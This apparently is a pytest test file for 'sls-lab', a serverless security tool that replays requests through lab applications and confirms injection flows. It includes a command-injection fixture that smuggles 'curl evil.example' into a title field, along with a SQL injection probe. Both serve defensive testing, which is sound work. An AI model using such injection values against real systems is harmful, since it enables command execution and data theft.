"""`sls-lab replay` and `sls-lab analyse --confirm`."""

from __future__ import annotations

import json
import shutil
from importlib import resources
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from sls_lab.cli import main

APPS = Path(__file__).resolve().parents[2] / "code-examples" / "apps"
ATTACK = json.dumps({"title": "x'; curl evil.example; '", "audio": ""})


@pytest.fixture
def foreign(tmp_path: Path) -> Path:
    """An application that is not the kit's own."""
    shutil.copytree(APPS / "night-bus", tmp_path / "bus", ignore=shutil.ignore_patterns("__pycache__"))
    (tmp_path / "bus" / "api" / "departures.py").write_text("def handler(event, context):\n    return event['body']\n")
    return tmp_path / "bus"


@pytest.mark.posix
def test_a_request_is_told_hop_by_hop(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["replay", str(APPS / "upload-chain"), "--at", "submit", "--data", ATTACK, "--quiet"]) == 0
    text = capsys.readouterr().out
    assert "1. submit  woken by the request" in text
    assert "4. convert  woken by hop 3" in text
    assert "‹curl›  ‹evil.example›" in text
    assert "a shell reads 7 commands" in text
    assert "4 hops, 3 events from handler to handler." in text


@pytest.mark.posix
def test_the_same_as_json(capsys: pytest.CaptureFixture[str]) -> None:
    command = ["replay", str(APPS / "upload-chain"), "--data", ATTACK, "--format", "json", "--quiet"]
    assert main(command) == 0
    found = json.loads(capsys.readouterr().out)
    assert found["schema"] == "sls-lab/replay/1"
    [replay] = found["replays"]
    assert [hop["handler"] for hop in replay["hops"]] == ["submit", "store", "register", "convert"]
    [danger] = replay["hops"][-1]["dangers"]
    assert [command["words"][0] for command in danger["commands"]] == [
        "aws",
        "curl",
        ".wav",
        "sox",
        "aws",
        "curl",
        ".flac",
    ]
    assert (danger["file"], danger["line"]) == ("handlers/convert.py", 16)
    assert [(edge["from"], edge["to"]) for edge in replay["edges"]] == [
        ("submit", "store"),
        ("store", "register"),
        ("register", "convert"),
    ]


@pytest.mark.posix
def test_without_a_request_those_of_the_application_are_sent(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["replay", str(APPS / "night-bus"), "--quiet"]) == 0
    assert "NIGHT-BUS: DEPARTURES AT ST JOHN'S SQUARE" in capsys.readouterr().out


@pytest.mark.posix
@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (["--data", "{"], "--data is not JSON"),
        (["--data", "[" * 100_000], "--data is nested too deeply"),
        (["--request", "/dev/zero"], "/dev/zero is not a regular file"),
        (["--data", "{}", "--at", "nobody"], "there is no function nobody; the functions are departures"),
        (["--request", "missing.yml"], "missing.yml cannot be read"),
        (["--request", "missing.yml", "--data", "{}"], "give --request or --data, not both"),
    ],
)
def test_bad_requests_are_refused_with_a_sentence(
    capsys: pytest.CaptureFixture[str], arguments: list[str], words: str
) -> None:
    assert main(["replay", str(APPS / "night-bus"), "--quiet", *arguments]) == 2
    assert words in capsys.readouterr().err


@pytest.mark.posix
def test_code_of_others_is_run_only_where_that_is_said(foreign: Path, capsys: pytest.CaptureFixture[str]) -> None:
    command = ["replay", str(foreign), "--data", '{"a": 1}', "--quiet"]
    assert main(command) == 2
    error = capsys.readouterr().err
    assert "give --run-its-code" in error
    assert "container" in error
    assert main([*command, "--run-its-code"]) == 0
    assert "departures" in capsys.readouterr().out


@pytest.mark.posix
def test_flows_of_others_are_confirmed_only_where_that_is_said(
    foreign: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["analyse", str(foreign), "--confirm", "--recorded", "--quiet"]) == 2
    assert "give --run-its-code" in capsys.readouterr().err


@pytest.mark.posix
def test_a_missing_module_is_told(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["replay", str(APPS / "radio-playlist"), "--quiet"]) == 2
    assert "Not replayed: the module radio_formats" in capsys.readouterr().out


def report(capsys: pytest.CaptureFixture[str], app: str, format: str) -> str:
    assert main(["analyse", str(APPS / app), "--confirm", "--recorded", "--quiet", "--format", format]) == 0
    return capsys.readouterr().out


@pytest.mark.posix
def test_confirmed_flows_are_told_in_every_format(capsys: pytest.CaptureFixture[str]) -> None:
    found: dict[str, Any] = json.loads(report(capsys, "night-bus", "json"))
    jsonschema.validate(found, json.loads((resources.files("sls_lab.report") / "schema.json").read_text()))
    [flow] = found["flows"]
    assert flow["confirmed"] is True
    assert flow["confirmation"]["status"] == "confirmed"
    assert flow["confirmation"]["arrived"]["kind"] == "sql"
    assert flow["confirmation"]["request"]["event"]["queryStringParameters"] == {"stop": "' or slslab7 or '"}
    assert found["observed"] == []
    assert "confirmed: \"' or slslab7 or '\", sent to departures" in report(capsys, "night-bus", "text")
    assert '<p class="replayed confirmed"><strong>Confirmed:</strong>' in report(capsys, "night-bus", "html")
    [result] = json.loads(report(capsys, "night-bus", "sarif"))["runs"][0]["results"]
    assert result["properties"]["confirmation"] == "confirmed"


@pytest.mark.posix
def test_predicted_edges_stand_beside_observed_ones(capsys: pytest.CaptureFixture[str]) -> None:
    found = json.loads(report(capsys, "bus-orders", "json"))
    assert [edge["observed"] for edge in found["edges"] if edge["status"] == "linked"] == [True]
    assert [(edge["from"], edge["to"]) for edge in found["observed"]] == [("order", "reserve")]
    assert "observed" in report(capsys, "bus-orders", "text")
